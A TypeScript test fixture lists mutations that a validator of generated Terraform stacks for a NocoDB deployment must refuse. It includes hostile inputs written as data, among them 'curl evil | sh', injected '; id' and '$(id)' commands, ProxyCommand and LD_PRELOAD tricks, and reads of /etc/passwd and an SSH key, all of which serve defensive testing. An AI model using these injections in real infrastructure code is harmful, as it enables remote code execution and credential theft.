import type { Block, LocalExec, Synthesized } from "../support/scope.js";

export type Stack = Synthesized & Record<string, Block>;

const site = (json: Stack) => json.resource.null_resource!.nocodb_site!;
const run = (json: Stack) => (site(json).provisioner as { "local-exec": LocalExec }[])[0]!;
const command = (edit: (command: string) => string) => (json: Stack) => {
  const exec = run(json)["local-exec"] as { command: string };
  exec.command = edit(exec.command);
};

const probe = (edit: (command: string) => string) => (json: Stack) => {
  const program = json.data.external!.host_probe!.program as string[];
  program[2] = edit(program[2]!);
};

const elsewhere = "differs from the trusted stack: a change of state or connection must be merged first";
const programs = "null_resource.nocodb_site: runs something other than host programs over the trusted SSH command";
const notTheProbe = "data.external.host_probe: runs something other than the probe";

/** A value that Terraform makes in every run and never stores. */
const created = "${ephemeral.random_password.nocodb_new_secrets.result}";
const ephemeral = (blocks: object) => (json: Stack) => Object.assign(json, { ephemeral: blocks });
const password = (block: object) => ephemeral({ random_password: { x: block } });
const notNew = "is not a new password of this app";

/** What may not be in the JSON of a stack: in words, the change that brings it in, and the reason for refusing it. */
export const refused: readonly [string, (json: Stack) => void, string][] = [
  [
    "another resource type",
    (json) => Object.assign(json.resource, { local_file: { x: {} } }),
    "resource.local_file: is not a resource type of this app",
  ],
  [
    "another data source",
    (json) => Object.assign(json.data, { http: { x: {} } }),
    "data.http: is not a data source of this app",
  ],
  [
    "a second program at plan time",
    (json) => Object.assign(json.data.external!, { x: { program: ["sh", "-c", "id"] } }),
    "data.external.x: runs something other than the probe",
  ],
  ["another provider", (json) => Object.assign(json.provider, { local: [{}] }), `provider: ${elsewhere}`],
  [
    "a provider from elsewhere",
    (json) => Object.assign(json.terraform.required_providers.null!, { source: "evil/null" }),
    `terraform: ${elsewhere}`,
  ],
  ["another backend", (json) => Object.assign(json.terraform.backend, { http: {} }), `terraform: ${elsewhere}`],
  [
    "another host",
    (json) => Object.assign(json.provider.docker![0]!, { host: "ssh://me@evil:22" }),
    `provider: ${elsewhere}`,
  ],
  [
    "a module",
    (json) => Object.assign(json, { module: { x: { source: "evil" } } }),
    "module: is not a section of a stack of this app",
  ],
  ["an import", (json) => Object.assign(json, { import: [{}] }), "import: is not a section of a stack of this app"],
  ["another command", command(() => "curl evil | sh"), programs],
  ["a command behind the first", command((text) => `${text}; id`), programs],
  ["a command on a line of its own", command((text) => `${text}\nid`), programs],
  [
    "a command within the first",
    command((text) => text.replace("caddy-site/apply", "caddy-site/apply $(id)")),
    programs,
  ],
  ["a program from elsewhere", command((text) => text.replace("caddy-site/apply", "../../../x")), programs],
  ["another program in the place of ssh", command((text) => text.replace("-- ssh", "-- /tmp/ssh")), programs],
  [
    "an option that starts a program",
    command((text) => text.replace("-o BatchMode=yes", "-o ProxyCommand=id")),
    programs,
  ],
  ["another command on the host", command((text) => text.replace("sudo -n sh -s", "id")), programs],
  [
    "an expression in a command",
    command((text) => text.replace("caddy-site/apply", '${"caddy-site/apply"}')),
    programs,
  ],
  ["an expression behind an escaped one", command((text) => `${text} $$\${"$"}{x}`), programs],
  ["another interpreter", (json) => Object.assign(run(json)["local-exec"], { interpreter: ["evil"] }), programs],
  ["another folder", (json) => Object.assign(run(json)["local-exec"], { working_dir: "/" }), programs],
  [
    "a variable that the shell or ssh would follow",
    (json) => Object.assign(run(json)["local-exec"].environment, { LD_PRELOAD: "x" }),
    programs,
  ],
  [
    "a provisioner of another kind",
    (json) => Object.assign(site(json), { provisioner: [{ "remote-exec": { inline: ["id"] } }] }),
    programs,
  ],
  [
    "a connection",
    (json) => Object.assign(site(json), { connection: { host: "evil" } }),
    "null_resource.nocodb_site: has a connection of its own",
  ],
  [
    "another probe",
    (json) => Object.assign(json.data.external!.host_probe!, { program: ["sh", "-c", "id"] }),
    notTheProbe,
  ],
  ["a command behind the probe", probe((text) => `${text} | tee /tmp/x`), notTheProbe],
  ["an assignment in front of the probe", probe((text) => `PATH=/tmp ${text}`), notTheProbe],
  [
    "a folder for the probe",
    (json) => Object.assign(json.data.external!.host_probe!, { working_dir: "/" }),
    notTheProbe,
  ],
  [
    "a file that it reads",
    (json) => Object.assign(json.output, { x: { value: '${file("/tmp/nocodb-ssh/id")}' } }),
    "output.x.value: reads a file that is not a host program",
  ],
  [
    "a file under another name of the function",
    (json) => Object.assign(json.output, { x: { value: '${core::file("/etc/passwd")}' } }),
    "output.x.value: calls core::file(), which this app does not use",
  ],
  [
    "a comment that hides what is called",
    (json) => Object.assign(json.output, { x: { value: '${file /* */ ("/etc/passwd")}' } }),
    "output.x.value: has a comment in an expression",
  ],
  [
    "a template from a file",
    (json) => Object.assign(json.output, { x: { value: ['${templatefile("/x", {})}'] } }),
    "output.x.value.0: calls templatefile(), which this app does not use",
  ],
  [
    "a file in a key",
    (json) => Object.assign(json.output, { x: { value: { '${file("/tmp/nocodb-ssh/id")}': 1 } } }),
    "output.x.value: reads a file that is not a host program",
  ],
  [
    "a file in a key that is a comment in other places",
    (json) => Object.assign(json.output, { x: { value: { "//": '${file("/tmp/nocodb-ssh/id")}' } } }),
    "output.x.value.//: reads a file that is not a host program",
  ],
  [
    "another program on the host in the place of the probe",
    probe((text) => text.replace("remote-host/probe --", "host-file/apply --")),
    notTheProbe,
  ],
  [
    "another program on the host in front of the probe",
    probe((text) => text.replace("remote-host/probe --", "backup/restore remote-host/probe --")),
    notTheProbe,
  ],
  [
    "a probe that is run without its checks",
    probe((text) => text.replace("run-probe.sh", "run-remote.sh")),
    notTheProbe,
  ],
  [
    "the probe as a step that changes the host",
    command((text) => text.replace("run-remote.sh", "run-probe.sh")),
    programs,
  ],
  [
    "another host for one of its commands",
    command((text) => text.replace("docker.example.com", "evil.example.com")),
    programs,
  ],
  [
    "a list in the place of a resource",
    (json) => Object.assign(json.resource.null_resource!, { x: [{ provisioner: [] }] }),
    "resource.null_resource.x: is not an object",
  ],
  [
    "a list in the place of resources",
    (json) => Object.assign(json.resource, { null_resource: [json.resource.null_resource] }),
    "resource.null_resource: is not an object",
  ],
  [
    "files of the agent in a container",
    (json) => Object.assign(json.resource.docker_container!.nocodb_container!, { upload: [{}] }),
    "docker_container.nocodb_container.upload: would send files of this machine to the host",
  ],
  ...["locals", "variable"].map((section): [string, (json: Stack) => void, string] => [
    `a section ${section}, through which a value could reach the state`,
    (json) => Object.assign(json, { [section]: { x: {} } }),
    `${section}: is not a section of a stack of this app`,
  ]),
  [
    "a password that the state would hold",
    (json) => Object.assign(json.resource, { random_password: { x: { length: 40 } } }),
    "resource.random_password: is not a resource type of this app",
  ],
  ["a new secret of another type", ephemeral({ vault_secret: { x: {} } }), `ephemeral.vault_secret.x: ${notNew}`],
  ["a new secret with another argument", password({ keepers: {} }), `ephemeral.random_password.x: ${notNew}`],
  ["a new secret with an expression", password({ length: "${1}" }), `ephemeral.random_password.x: ${notNew}`],
  ...Object.entries<(json: Stack) => void>({
    "output.x.value": (json) => Object.assign(json.output, { x: { value: created } }),
    "resource.null_resource.nocodb_site.triggers.x": (json) => Object.assign(site(json).triggers!, { x: created }),
    "resource.null_resource.nocodb_site.provisioner.0.local-exec.environment.INPUT_x": (json) =>
      Object.assign(run(json)["local-exec"].environment, { INPUT_x: created }),
    "resource.docker_container.nocodb_container.env.0": (json) =>
      Object.assign(json.resource.docker_container!.nocodb_container!, { env: [`X=${created}`] }),
  }).map(([place, change]): [string, (json: Stack) => void, string] => [
    `a new secret in ${place}`,
    change,
    `${place}: refers to a new secret, which only the program that keeps it may get`,
  ]),
  [
    "an expression behind a percent sign, which becomes a quote and a command",
    probe((text) => text.replace("INPUT_", `INPUT_x='%\${"\\u0027; id; \\u0027"}' INPUT_`)),
    notTheProbe,
  ],
];
